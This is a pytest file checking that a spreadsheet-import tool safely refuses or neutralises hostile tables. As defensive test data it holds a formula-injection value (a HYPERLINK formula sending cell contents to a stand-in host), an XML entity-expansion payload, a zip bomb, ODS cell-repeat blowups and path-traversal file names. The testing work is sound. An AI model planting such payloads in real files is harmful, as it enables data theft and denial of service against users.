"""Tables that are broken or mean harm: a message and exit code 2, never a traceback, never a written file."""

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from rubric.model.cells import csv_text, safe_cell, unsafe_cell
from rubric.observe.tables.workbook_read import MAX_BYTES, read_tables
from tests.cli.support import Shell

RUBRIC = ("-r", "scene-capability-gameplay")
ATTACK = '=HYPERLINK("http://example.org/?x="&A1,"click")'


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    return Shell(tmp_path)


def workbook(rows: list[list[object]], worksheet: str = "corner-shop") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = worksheet
    for row in rows:
        sheet.append(row)
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def changed(data: bytes, part: str, make: bytes | None, level: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A workbook with one part replaced, or left out."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(written, "w", level) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        if make is not None:
            new.writestr(part, make)
    return written.getvalue()


FINE = workbook([["id", "answer"], ["flash_sale", "yes"]])
PART = "xl/worksheets/sheet1.xml"
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + SHEET.format("<row><c><v>&b;</v></c></row>")

LONG = f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"x" * 500_000}</t></si></sst>'
ECHO = SHEET.format("<row>" + '<c t="s"><v>0</v></c>' * 300 + "</row>")

BROKEN = {
    "text.xlsx": b"this is no workbook",
    "empty.xlsx": b"",
    "zip.xlsx": changed(FINE, "xl/workbook.xml", None),
    "half.xlsx": FINE[: len(FINE) // 2],
    "noise.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 20,
    "xml.xlsx": changed(FINE, PART, b"<worksheet><unclosed>"),
    "laughs.xlsx": changed(FINE, PART, LAUGHS.encode()),
    "echo.xlsx": changed(changed(FINE, PART, ECHO.encode()), "xl/sharedStrings.xml", LONG.encode()),
    "far.xlsx": changed(FINE, PART, SHEET.format(FAR).encode()),
    "bomb.xlsx": changed(FINE, "xl/media/x.bin", bytes(130_000_000)),
    "large.csv": b"a," * (MAX_BYTES // 2 + 10),
    "bytes.csv": bytes(range(128, 256)) * 3 + b"\xff",
    "picture.png": b"\x89PNG",
}


@pytest.mark.parametrize("name", BROKEN)
def test_broken_files_are_refused(shell: Shell, name: str) -> None:
    shell.write(name, BROKEN[name])
    done = shell.inside("sheet", "import", name, *RUBRIC)
    assert done.code == 2
    assert "error[table-" in done.err
    assert not list(shell.folder.glob("*.yaml"))


def test_a_folder_is_no_table(shell: Shell) -> None:
    assert shell.inside("sheet", "import", "examples", *RUBRIC).code == 2


@pytest.mark.parametrize("step", range(1, 24))
def test_a_workbook_cut_or_altered_anywhere_never_crashes(tmp_path: Path, step: int) -> None:
    path = tmp_path / "x.xlsx"
    at = len(FINE) * step // 24
    for data in (FINE[:at], FINE[:at] + bytes([FINE[at] ^ 0xFF]) + FINE[at + 1 :]):
        path.write_bytes(data)
        read = read_tables(path)
        assert read.findings or read.grids


def test_formulas_of_others_stay_text(shell: Shell) -> None:
    """What a sheet says is no formula in the workbook or the CSV, and comes back as it was."""
    shell.write(
        "corner-shop.sheet.yaml",
        "program: corner-shop\nformat: 1\nrubric: scene-capability-gameplay\nanswers:\n"
        f"  flash_sale: {{value: yes, because: '{ATTACK}', evidence: [{{url: '@SUM(1)', at: \"'+1\"}}]}}\n"
        "  share_steps: {value: 2, because: '-2 is not meant'}\n",
    )
    before = shell.read("corner-shop.sheet.yaml")
    for name in ("t.xlsx", "t.csv"):
        shell.inside("sheet", "new", "--from", "corner-shop.sheet.yaml", "-o", name)
        assert shell.inside("sheet", "import", name).code == 0
        assert shell.read("corner-shop.sheet.yaml") == before
    with zipfile.ZipFile(shell.folder / "t.xlsx") as package:
        assert not [name for name in package.namelist() if b"<f>" in package.read(name) and "worksheets" in name]
    text = shell.read("t.csv")
    assert "'=HYPERLINK" in text
    assert "'@SUM(1)" in text
    assert "''+1" in text
    assert ",2," in text


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "'=1", "''-x", "'quoted'", "plain", "", "＝1", "'"])
def test_protection_of_a_cell_can_be_taken_back(text: str) -> None:
    assert unsafe_cell(safe_cell(text)) == text
    assert safe_cell(text)[:1] not in tuple("=+-@\t")


def test_numbers_are_not_protected() -> None:
    assert csv_text([[-5]]) == "-5\r\n"


def test_a_formula_with_its_result_counts_as_the_result(shell: Shell) -> None:
    def text(at: str, words: str) -> str:
        return f'<c r="{at}" t="inlineStr"><is><t>{words}</t></is></c>'

    rows = f'<row r="1">{text("A1", "id")}{text("B1", "answer")}</row>'
    rows += f'<row r="2">{text("A2", "share_steps")}<c r="B2"><f>1+1</f><v>2</v></c></row>'
    shell.write("corner-shop.xlsx", changed(FINE, PART, SHEET.format(rows).encode()))
    assert shell.inside("sheet", "import", "corner-shop.xlsx", *RUBRIC).code == 0
    assert "share_steps: 2" in shell.read("corner-shop.sheet.yaml")


def test_texts_of_ten_thousand_characters_fit_and_longer_ones_are_told(shell: Shell) -> None:
    for length, code in ((10_000, 0), (10_001, 2)):
        rows: list[list[object]] = [["id", "answer", "reason"], ["flash_sale", "yes", "字" * length]]
        shell.write("corner-shop.xlsx", workbook(rows))
        done = shell.inside("sheet", "import", "corner-shop.xlsx", *RUBRIC)
        assert done.code == code, done.err
    assert "corner-shop!C2: error[text-length]" in done.err


@pytest.mark.parametrize("name", ["../out.sheet.yaml", "a/b.sheet.yaml", "C:\\x.sheet.yaml", ".x.sheet.yaml", "x.txt"])
def test_a_table_cannot_choose_where_it_is_written(shell: Shell, name: str) -> None:
    text = f"id,answer\n#program,corner-shop\n#sheet,{name}\nflash_sale,yes\n"
    shell.write("in/in.csv", text)
    assert shell.inside("sheet", "import", "in/in.csv", *RUBRIC).code == 0
    assert {path.name for path in shell.folder.rglob("*.sheet.yaml") if "examples" not in path.parts} == {
        "corner-shop.sheet.yaml"
    }
    assert (shell.folder / "in/corner-shop.sheet.yaml").is_file()


@pytest.mark.parametrize(("rows", "columns"), [(100_000, 10), (10, 1_000), (40_000, 400)])
def test_an_ods_file_that_repeats_a_cell_for_ever_is_refused(shell: Shell, rows: int, columns: int) -> None:
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    cell = f'<table:table-cell office:value-type="string" table:number-columns-repeated="{columns}"/>'
    table = f'<table:table><table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row></table:table>'
    content = f"<office:document-content {names}><office:body>{table}</office:body></office:document-content>"
    shell.write("x.ods", changed(FINE, "content.xml", content.encode()))
    done = shell.inside("sheet", "import", "x.ods", *RUBRIC)
    assert (done.code, "table-too-large" in done.err) == (2, True)
